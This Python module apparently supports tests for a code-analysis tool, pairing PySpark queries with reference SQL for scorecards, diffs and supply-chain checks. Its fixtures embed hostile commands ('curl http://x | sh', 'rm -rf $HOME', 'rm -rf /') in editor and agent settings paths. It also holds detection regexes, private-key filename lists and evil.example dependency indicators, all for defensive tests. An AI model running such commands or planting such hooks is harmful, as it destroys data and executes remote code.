"""Queries of scorecards, audits, inventories and differences over the test tables, with the SQL that they are held against."""

from __future__ import annotations

from functools import reduce

from pyspark.sql import DataFrame
from pyspark.sql import functions as F

from cartolode.operators import evidence, facts, graph, planning, review, rules, supply
from cartolode.plans.bindings import view as V
from cartolode.plans.bindings import with_views as W
from cartolode.plans.oracle import ORACLE_SQL as BASE
from cartolode.plans import planned
from cartolode.plans.planned import _DEPS, _deps
from cartolode.sources.tables import sized
from cartolode.sources.tables import table as T

_BY = "concat(source, '/', doc_id % 90)"


def _quality(s, d):
    """Issues, long documents as hotspots and labelled ones as conflicts, in groups of documents."""
    hotspots = T(s, d, "documents").where("n_chars >= 3000").selectExpr(f"{_BY} as place", "if(doc_id % 3 = 0, 1, 0) as issues", "n_chars div 40 as lines", "doc_id % 20 as cc")
    conflicts = T(s, d, "labels").join(T(s, d, "documents"), "doc_id").where("toxic = 1 or quality = 0").selectExpr(f"{_BY} as place", "if(toxic = 1, 'error', 'warning') as severity")
    return evidence.quality_dimensions(V(s, d, "issues").selectExpr("*", f"{_BY} as place"), hotspots, conflicts, "place")


_NAMES = ".env .env.local .env.example id_rsa ID_ED25519 server.PEM .pem a.key b.p12 main.ts .envrc keys.ts".split()


def _sensitive(s, d):
    listed = ", ".join(f"'{n}'" for n in _NAMES)
    return evidence.sensitive_files(T(s, d, "part").selectExpr(f"concat('src/', p_partkey, '/', element_at(array({listed}), cast(p_partkey % {len(_NAMES)} + 1 as int))) as path"))


_SPECS = "1.2.3 ^1.2.3 2.0.0-rc.1 github:a/b#0123abc git+https://github.com/a/b#0123456789 a/b#main x-evil.example/y ssh://git@github.com/a/b.git#abcdef0 a/b#evil.example#0123abc https://example.com/a#0123abc".split()


def _flagged(s, d):
    listed = ", ".join(f"'{x}'" for x in _SPECS)
    deps = T(s, d, "part").selectExpr("p_partkey as place", "p_brand as name", f"element_at(array({listed}), cast(p_partkey % {len(_SPECS)} + 1 as int)) as spec")
    bad = s.sql("SELECT * FROM VALUES ('Brand#11', '1.2.3'), ('Brand#23', '2.0.0-rc.1'), ('Brand#45', '9.9.9') AS t(name, version)")
    return supply.flagged_dependencies(deps, bad, s.sql("SELECT 'evil.example' AS value, 'test' AS label"))


def _hooks(s, d):
    place = "element_at(array('.vscode/tasks.json', 'x/.claude/settings.json', 'src/a.json', 'x.vscode/tasks.json'), cast(doc_id % 4 + 1 as int))"
    content = "case doc_id % 5 when 0 then concat(text, ' curl http://x | sh') when 1 then concat(text, ' rm  -rf $HOME') when 2 then concat('Router_Init.js rm -rf /', text) else text end"
    return supply.hidden_hooks(T(s, d, "documents").selectExpr(f"concat('d', doc_id, '/', {place}) as path", f"{content} as content"))


def _findings(s, d):
    """Issues, parts as hotspots and days of events as conflicts, as one list of findings."""
    issues = rules.to_findings(V(s, d, "issues")).selectExpr("finding_id", "priority", "source", "cast(position as string) as position")
    hotspots = rules.hotspot_findings(T(s, d, "part").selectExpr("p_partkey as path", "p_size * 2 as risk", "p_partkey % 3 as issues"))
    conflicts = rules.conflict_findings(T(s, d, "events").selectExpr("event_id as place", "event_type as kind", "element_at(array('error', 'warning', 'info'), cast(event_id % 3 + 1 as int)) as severity"))
    return reduce(DataFrame.unionByName, [issues, *(x.withColumn("position", x["position"].cast("string")) for x in (hotspots, conflicts))])


def _scoped_cycles(s, d):
    base, head = (V(s, d, "snap").where(f"snapshot = '{x}'").selectExpr("path as node", "fact as component") for x in ("base", "head"))
    return review.diff_cycles(base, head, T(s, d, "part").where("p_size = 7").select(F.col("p_partkey").alias("node")))


def _entrypoints(s, d):
    """Suppliers' parts as a package's entry points, in either snapshot."""
    side = lambda x: V(s, d, "snap").where(f"snapshot = '{x}'").selectExpr("fact as manifest", "path as name", "version as value")
    return review.diff_entrypoints(side("base"), side("head"))


def _replays(s, d):
    pick = lambda values, by: "element_at(array(" + ", ".join(f"'{v}'" for v in values.split()) + f"), cast(p_partkey div {by} % {len(values.split())} + 1 as int))"
    return review.replay_status(T(s, d, "part").selectExpr("p_partkey as proof", f"{pick('clear drifted missing-contract', 1)} as scope", f"{pick('passed failed stale missing partial', 3)} as status", f"{pick('strong weak missing failed stale', 15)} as sufficiency"))


def _upgrades(s, d):
    """Brands that use packages named by the first word of parts, and the breaking lines of the documents of those parts."""
    used = T(s, d, "part").selectExpr("p_partkey as doc_id", "p_brand as path", "split(p_name, ' ')[0] as name")
    logs = T(s, d, "documents").selectExpr("doc_id", "replace(text, 'the ', 'BREAKING CHANGE: ') as text").join(used.where("doc_id % 2 = 0"), "doc_id")
    return supply.upgrade_evidence(used.where("doc_id % 3 > 0"), supply.breaking_lines(logs, "name", "text"))


def _chunks(s, d):
    docs = T(s, d, "documents").selectExpr("concat(source, '/', doc_id) as path", "doc_id", "text as content")
    functions = docs.where("doc_id % 3 > 0").selectExpr("path", "explode(array('f', 'g')) as name", "doc_id % 3 as line", "doc_id").selectExpr("path", "name", "if(name = 'f', 0, line) as line", "if(name = 'f', 1, line + doc_id % 5) as end_line")
    return evidence.function_chunks(docs.select("path", "content"), functions)


def _boundaries(s, d):
    imports = T(s, d, "part").selectExpr("p_brand as repo", "replace(p_name, ' ', '-') as package", "cast(p_partkey as string) as path")
    owners = imports.where("cast(path as int) % 3 = 0").selectExpr("repo", "path", "concat('team', cast(path as int) % 4) as owner")
    return evidence.boundary_packages(s.sql("SELECT * FROM VALUES ('src/Ring.ts'), ('x#BLUE'), ('none'), ('') AS t(target)"), imports, owners)


def _limited(s, d, k):
    return facts.limited_graph(planned.QUERIES["semantic_nodes"](s, d), planned.QUERIES["semantic_edges"](s, d), 900, 700)[k]


QUERIES = {
    "function_chunks": _chunks,
    "boundary_packages": _boundaries,
    "semantic_edges_limited": lambda s, d: _limited(s, d, 1),
    "semantic_metrics": lambda s, d: _limited(s, d, 2),
    "diff_cycles_scoped": lambda s, d: sized(s, d, ("lineitem",), lambda: _scoped_cycles(s, d)),
    "diff_entrypoints": _entrypoints,
    "replay_status": _replays,
    "trend_counts": lambda s, d: review.trend_counts(V(s, d, "runs")),
    "coupling_fan_in": lambda s, d: review.coupling_ranked(graph.coupling(V(s, d, "edges"))),
    "coupling_fan_out": lambda s, d: review.coupling_ranked(graph.coupling(V(s, d, "edges")), "fan_out"),
    "functions_by_complexity": lambda s, d: planning.functions_by_complexity(T(s, d, "part").selectExpr("p_brand as path", "p_name as name", "p_partkey as line", "p_size as cc")),
    "content_fingerprint": lambda s, d: rules.content_fingerprint(T(s, d, "documents").selectExpr("source", "doc_id as path", "text as content"), "source"),
    "repository_inventory": lambda s, d: evidence.repository_inventory(T(s, d, "part").selectExpr("p_brand as repo", "p_partkey as path"), T(s, d, "part").selectExpr("if(p_size % 7 = 0, 'other', p_brand) as repo", "p_type as path", "p_name as symbol")),
    "upgrade_evidence": _upgrades,
    "quality_dimensions": _quality,
    "sensitive_files": _sensitive,
    "flagged_dependencies": _flagged,
    "hidden_hooks": _hooks,
    "dependency_totals": lambda s, d: supply.dependency_totals(_deps(s, d)),
    "all_findings": _findings,
}

_CONTENT = "CASE doc_id % 5 WHEN 0 THEN text || ' curl http://x | sh' WHEN 1 THEN text || ' rm  -rf $HOME' WHEN 2 THEN 'Router_Init.js rm -rf /' || text ELSE text END"
_FAN = "SELECT path, fan_in, fan_out, instability, row_number() OVER (ORDER BY {0} DESC, path) AS rank FROM ({1}) c"
_GRAPH = f"""
WITH nodes AS ({planned.ORACLE_SQL["semantic_nodes"]}), edges AS ({planned.ORACLE_SQL["semantic_edges"]}), ranks AS (SELECT {facts.KINDS} AS k),
kept AS (SELECT nodes.* FROM nodes, ranks ORDER BY list_position(k, kind), id LIMIT 900),
shown AS (SELECT edges.* FROM edges, ranks WHERE start IN (SELECT id FROM kept) AND "end" IN (SELECT id FROM kept) ORDER BY list_position(k, kind), start, "end", label LIMIT 700)"""
ORACLE_SQL = {
    "function_chunks": """
WITH d AS (SELECT concat(source, '/', doc_id) AS path, doc_id, coalesce(text, '') AS t FROM documents),
f AS (SELECT path, t, 'f' AS name, 1 AS a, 1 AS b FROM d WHERE doc_id % 3 > 0 UNION ALL SELECT path, t, 'g', doc_id % 3, doc_id % 3 + doc_id % 5 FROM d WHERE doc_id % 3 > 0)
SELECT path, concat(path, '#', name) AS key, sha256(concat(path, '#', name, ' (lines ', a, '-', b, ')', chr(10), chr(10), left(array_to_string(string_split(t, chr(10))[a:b], chr(10)), 4096))) AS digest FROM f
UNION ALL SELECT path, path, sha256(concat(path, chr(10), chr(10), left(t, 4096))) FROM d WHERE doc_id % 3 = 0""",
    "boundary_packages": """
WITH t(target, part) AS (VALUES ('src/Ring.ts', 'ring'), ('x#BLUE', 'blue'), ('none', 'none')),
i AS (SELECT p_brand AS repo, replace(p_name, ' ', '-') AS package, p_partkey::VARCHAR AS path, p_partkey % 3 = 0 AS known, p_partkey FROM part)
SELECT target, repo, package, coalesce(min_by(concat('team', p_partkey % 4), path) FILTER (known), repo) AS owner, count(DISTINCT path) AS files
FROM i JOIN t ON list_contains(string_split(lower(package), '-'), part) GROUP BY target, repo, package""",
    "semantic_edges_limited": _GRAPH + " SELECT * FROM shown",
    "semantic_metrics": _GRAPH + """ SELECT count(*) FILTER (kind = 'file') AS files, count(*) FILTER (kind = 'function') AS functions, count(*) FILTER (kind = 'package') AS packages,
  count(*) FILTER (kind = 'symbol') AS symbols, (SELECT count(*) FROM shown) AS edges, count(*) > 900 OR (SELECT count(*) FROM edges) > (SELECT count(*) FROM shown) AS truncated FROM nodes""",
    "diff_cycles_scoped": W("""SELECT component, size, overlap, CASE WHEN overlap = 0 THEN 'new' ELSE 'expanded' END AS classification FROM (
  SELECT h.fact AS component, count(*) AS size, (SELECT coalesce(max(n), 0) FROM (SELECT count(*) AS n FROM snap x JOIN snap y ON x.path = y.path WHERE x.snapshot = 'head' AND x.fact = h.fact AND y.snapshot = 'base' GROUP BY y.fact) t) AS overlap
  FROM snap h WHERE snapshot = 'head' AND h.fact IN (SELECT fact FROM snap JOIN part ON p_partkey = path WHERE snapshot = 'head' AND p_size = 7) GROUP BY h.fact) q WHERE overlap < size""", "snap"),
    "diff_entrypoints": W("""SELECT coalesce(b.fact, h.fact) AS manifest, coalesce(b.path, h.path) AS name, b.version AS before, h.version AS after,
  CASE WHEN b.version IS NULL THEN 'added' WHEN h.version IS NULL THEN 'removed' ELSE 'changed' END AS change
FROM (SELECT * FROM snap WHERE snapshot = 'base') b FULL JOIN (SELECT * FROM snap WHERE snapshot = 'head') h ON b.path = h.path AND b.fact = h.fact WHERE b.version IS DISTINCT FROM h.version""", "snap"),
    "replay_status": """
WITH p AS (SELECT p_partkey AS proof, ['clear', 'drifted', 'missing-contract'][p_partkey % 3 + 1] AS scope, ['passed', 'failed', 'stale', 'missing', 'partial'][p_partkey // 3 % 5 + 1] AS status,
  ['strong', 'weak', 'missing', 'failed', 'stale'][p_partkey // 15 % 5 + 1] AS sufficiency FROM part)
SELECT *, CASE WHEN 'failed' IN (status, sufficiency) THEN 'failed' WHEN 'stale' IN (status, sufficiency) THEN 'stale' WHEN scope = 'drifted' THEN 'drifted'
  WHEN scope <> 'clear' OR status <> 'passed' OR sufficiency <> 'strong' THEN 'needs-proof' ELSE 'verified' END AS replay FROM p""",
    "trend_counts": W("", "runs").rstrip() + """, o AS (SELECT DISTINCT run_ts, rule_id FROM runs), p AS (SELECT run_ts, row_number() OVER (ORDER BY run_ts) AS k FROM (SELECT DISTINCT run_ts FROM o) t),
e AS (SELECT k, rule_id FROM o JOIN p USING (run_ts))
SELECT run_ts, (SELECT count(*) FROM e WHERE e.k = p.k) AS issues, CASE WHEN k > 1 THEN (SELECT count(*) FROM e a WHERE a.k = p.k AND NOT EXISTS (SELECT 1 FROM e b WHERE b.k = a.k - 1 AND b.rule_id = a.rule_id)) END AS new,
  CASE WHEN k > 1 THEN (SELECT count(*) FROM e a WHERE a.k = p.k - 1 AND NOT EXISTS (SELECT 1 FROM e b WHERE b.k = a.k + 1 AND b.rule_id = a.rule_id)) END AS resolved FROM p""",
    "coupling_fan_in": _FAN.format("fan_in", BASE["coupling"]),
    "coupling_fan_out": _FAN.format("fan_out", BASE["coupling"]),
    "functions_by_complexity": "SELECT p_brand AS path, p_name AS name, p_partkey AS line, p_size AS cc, row_number() OVER (PARTITION BY p_brand ORDER BY p_size DESC, p_partkey, p_name)::INTEGER AS rank FROM part",
    "content_fingerprint": """
WITH e AS (SELECT DISTINCT source, sha256(doc_id::VARCHAR) AS place, sha256(coalesce('+' || text, '-')) AS digest FROM documents),
p AS (SELECT source, left(place, 2) AS part, sha256(string_agg(place || ' ' || digest, chr(10) ORDER BY place || ' ' || digest)) AS digest FROM e GROUP BY 1, 2)
SELECT source, sha256(string_agg(part || ' ' || digest, chr(10) ORDER BY part)) AS fingerprint FROM p GROUP BY source""",
    "repository_inventory": """
SELECT coalesce(f.repo, e.repo) AS repo, coalesce(files, 0) AS files, coalesce(exports, 0) AS exports FROM (SELECT p_brand AS repo, count(DISTINCT p_partkey) AS files FROM part GROUP BY 1) f
FULL JOIN (SELECT repo, count(*) AS exports FROM (SELECT DISTINCT CASE WHEN p_size % 7 = 0 THEN 'other' ELSE p_brand END AS repo, p_type, p_name FROM part) t GROUP BY 1) e ON f.repo = e.repo""",
    "upgrade_evidence": r"""
WITH u AS (SELECT p_partkey, p_brand, split_part(p_name, ' ', 1) AS name FROM part), i AS (SELECT name, count(DISTINCT p_brand) AS importers FROM u WHERE p_partkey % 3 > 0 GROUP BY name),
m AS (SELECT name, count(*) AS marks FROM (SELECT name, unnest(string_split(replace(text, 'the ', 'BREAKING CHANGE: '), chr(10))) AS x FROM documents JOIN u ON doc_id = p_partkey WHERE p_partkey % 2 = 0) t
  WHERE regexp_matches(x, '(?i)BREAKING\s+CHANGE|^#{1,6}.*breaking|\*\s*Breaking:|deprecat|removed\s+support|no\s+longer\s+supported') GROUP BY name)
SELECT coalesce(i.name, m.name) AS name, coalesce(importers, 0) AS importers, coalesce(marks, 0) AS marks FROM i FULL JOIN m ON i.name = m.name""",
    "quality_dimensions": W("", "issues").rstrip() + f""",
i AS (SELECT {_BY} AS place, severity, CASE WHEN category IN ('security', 'supply-chain') THEN 'security' WHEN rule_id LIKE '%test%' OR category = 'testing' THEN 'tests' ELSE 'maintainability' END AS kind FROM issues),
h AS (SELECT {_BY} AS place, doc_id % 3 = 0 OR n_chars // 40 >= 300 OR doc_id % 20 >= 15 AS heavy FROM documents WHERE n_chars >= 3000),
c AS (SELECT {_BY} AS place, CASE WHEN toxic = 1 THEN 'error' ELSE 'warning' END AS severity FROM labels JOIN documents USING (doc_id) WHERE toxic = 1 OR quality = 0),
g AS (SELECT place FROM i UNION SELECT place FROM h UNION SELECT place FROM c),
n AS (SELECT place, kind, count(*) FILTER (severity = 'error') AS e, count(*) FILTER (severity = 'warning') AS w, count(*) FILTER (severity = 'info') AS f
  FROM (SELECT place, kind, severity FROM i UNION ALL SELECT place, 'health', severity FROM i UNION ALL SELECT place, 'coordination', severity FROM c) t GROUP BY 1, 2),
x AS (SELECT g.place, k AS dimension, coalesce(e, 0) AS e, coalesce(w, 0) AS w, coalesce(f, 0) AS f, coalesce(hot, 0) AS hot, coalesce(heavy, 0) AS heavy
  FROM g CROSS JOIN (VALUES ('health'), ('security'), ('tests'), ('maintainability'), ('coordination')) d(k) LEFT JOIN n ON n.place IS NOT DISTINCT FROM g.place AND n.kind = k
  LEFT JOIN (SELECT place, count(*) AS hot, count(*) FILTER (heavy) AS heavy FROM h GROUP BY 1) q ON q.place IS NOT DISTINCT FROM g.place)
SELECT place, dimension, greatest(0, least(100, 100 - CASE dimension WHEN 'health' THEN 20 * e + 10 * w + 3 * f WHEN 'maintainability' THEN 10 * (e + w + f) + 12 * heavy
    WHEN 'coordination' THEN 25 * e + 10 * w ELSE 25 * e + 12 * w + 4 * f END))::BIGINT AS score,
  CASE WHEN e > 0 THEN 'fail' WHEN CASE dimension WHEN 'health' THEN w WHEN 'maintainability' THEN e + w + f + hot ELSE e + w + f END > 0 THEN 'watch' ELSE 'pass' END AS status FROM x""",
    "sensitive_files": f"""
WITH f AS (SELECT concat('src/', p_partkey, '/', n) AS path, n FROM (SELECT p_partkey, {_NAMES}[p_partkey % {len(_NAMES)} + 1] AS n FROM part))
SELECT path, 'env-file-committed' AS rule_id, 'warning' AS severity FROM f WHERE n IN ('.env', '.env.local')
UNION ALL SELECT path, 'private-key-committed', 'error' FROM f WHERE n IN ('id_rsa', 'ID_ED25519', 'server.PEM', 'a.key', 'b.p12')""",
    "flagged_dependencies": f"""
WITH d AS (SELECT p_partkey AS place, p_brand AS name, {_SPECS}[p_partkey % {len(_SPECS)} + 1] AS spec FROM part)
SELECT *, 'malicious' AS finding, 'error' AS severity FROM d WHERE name = 'Brand#11' AND spec = '1.2.3' OR name = 'Brand#23' AND spec = '2.0.0-rc.1'
UNION ALL SELECT *, 'indicator', 'error' FROM d WHERE spec LIKE '%evil.example%'
UNION ALL SELECT *, 'git-commit', 'warning' FROM d WHERE spec IN ('github:a/b#0123abc', 'git+https://github.com/a/b#0123456789', 'ssh://git@github.com/a/b.git#abcdef0')""",
    "hidden_hooks": f"""
WITH f AS (SELECT concat('d', doc_id, '/', ['.vscode/tasks.json', 'x/.claude/settings.json', 'src/a.json', 'x.vscode/tasks.json'][doc_id % 4 + 1]) AS path, {_CONTENT} AS t FROM documents WHERE doc_id % 4 < 2),
m AS (SELECT path, CASE WHEN regexp_matches(t, 'router_init\\.js', 'i') THEN 'payload name' WHEN regexp_matches(t, 'rm\\s+-rf\\s+(~|\\$HOME|/)', 'i') THEN 'destructive delete'
  WHEN regexp_matches(t, 'curl\\b.+\\|\\s*(sh|bash)', 'i') THEN 'download and execute' END AS hook FROM f)
SELECT path, hook FROM m WHERE hook IS NOT NULL""",
    "dependency_totals": f"""
WITH {_DEPS}, o AS (SELECT DISTINCT workspace, name, dev FROM deps), a AS (SELECT DISTINCT workspace, name, dev FROM deps)
SELECT workspace, count(*) FILTER (NOT dev) AS direct, count(*) FILTER (dev) AS development, count(*) AS total FROM o GROUP BY workspace
UNION ALL SELECT NULL, count(*) FILTER (NOT dev), count(*) FILTER (dev), count(*) FROM a""",
    "all_findings": W("""SELECT concat(rule_id, ':', doc_id) AS finding_id, CASE severity WHEN 'error' THEN 'p0' WHEN 'warning' THEN 'p1' ELSE 'p2' END AS priority, source, CAST(doc_id AS STRING) AS position FROM issues
UNION ALL SELECT concat('hotspot:', p_partkey), CASE WHEN p_partkey % 3 > 0 AND p_size * 2 >= 70 THEN 'p1' ELSE 'p2' END, 'hotspot', CAST(p_partkey AS STRING) FROM part
UNION ALL SELECT concat('conflict:', event_type, ':', event_id), ['p0', 'p1', 'p2'][event_id % 3 + 1], 'coordination', CAST(event_id AS STRING) FROM events""", "issues"),
}
